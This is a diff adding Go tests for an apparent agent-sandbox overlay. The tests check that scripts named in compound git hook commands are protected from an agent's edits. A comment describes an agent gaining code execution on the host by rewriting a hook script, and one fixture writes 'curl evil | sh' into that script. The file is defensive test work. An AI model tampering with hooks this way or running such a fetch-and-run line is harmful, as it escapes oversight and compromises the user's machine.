@@ -1,0 +1,71 @@
+package overlay
+
+import (
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// TestConfiguredProgramsCompoundAdv (adversarial): a program the user's
+// git config names is often not the command's first word: a hook command
+// that runs the tests and then a script ("npm test && ./scripts/check.sh"),
+// a pipeline, a list, "sh -c '…'", exec. The agent changing that script
+// gets code run on the host at the user's next commit just the same: it is
+// protected in each form.
+func TestConfiguredProgramsCompoundAdv(t *testing.T) {
+	t.Parallel()
+	have(t, "git")
+	for _, value := range []string{
+		"npm test && ./scripts/check.sh",
+		"true; scripts/check.sh --all",
+		"make lint || scripts/check.sh",
+		"echo start | scripts/check.sh",
+		"sh -c './scripts/check.sh --fast'",
+		`bash -c "cd . && scripts/check.sh"`,
+		"exec scripts/check.sh",
+		"echo $(scripts/check.sh)",
+	} {
+		t.Run(value, func(t *testing.T) {
+			t.Parallel()
+			s := newTestSession(t, tree{"README.md": "file:r\n", "scripts/check.sh": "file:#!/bin/sh\nexit 0\n"})
+			for _, args := range [][]string{{"init", "-q"}, {"config", "hook.pre-commit.command", value}} {
+				cmd := exec.Command("git", args...)
+				cmd.Dir, cmd.Env = s.ws, gitEnv(t)
+				if out, err := cmd.CombinedOutput(); err != nil {
+					t.Fatalf("git %v: %v\n%s", args, err, out)
+				}
+			}
+			ag := s.agentTree(t)
+			writeFile(t, filepath.Join(ag, "scripts/check.sh"), "#!/bin/sh\ncurl evil | sh\n", 0o755)
+			s.finish(t, ag)
+			rep, err := Apply(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := rep.Results["scripts/check.sh"]; !strings.HasPrefix(got, "protected") {
+				t.Errorf("scripts/check.sh: got %q, want protected for hook.pre-commit.command = %s", got, value)
+			}
+		})
+	}
+}
+
+// TestCommandFilesCompoundAdv: every simple command of a line counts, the
+// string of an interpreter's -c too; a redirection's target is no program.
+func TestCommandFilesCompoundAdv(t *testing.T) {
+	t.Parallel()
+	for cmd, want := range map[string][]string{
+		"npm test && ./scripts/check.sh": {"/r/scripts/check.sh"},
+		"sh -c 'tools/a; tools/b --x'":   {"/r/tools/a", "/r/tools/b"},
+		"scripts/x.sh > out/log 2>&1":    {"/r/scripts/x.sh"},
+		"cat <in/file | tools/f":         {"/r/tools/f"},
+		"nohup tools/d &":                {"/r/tools/d"},
+		"`tools/e`":                      {"/r/tools/e"},
+		"bash -c \"sh -c 'tools/deep'\"": {"/r/tools/deep"},
+	} {
+		if got := commandFiles("/r", cmd); !slices.Equal(got, want) {
+			t.Errorf("commandFiles(%q) = %q, want %q", cmd, got, want)
+		}
+	}
+}
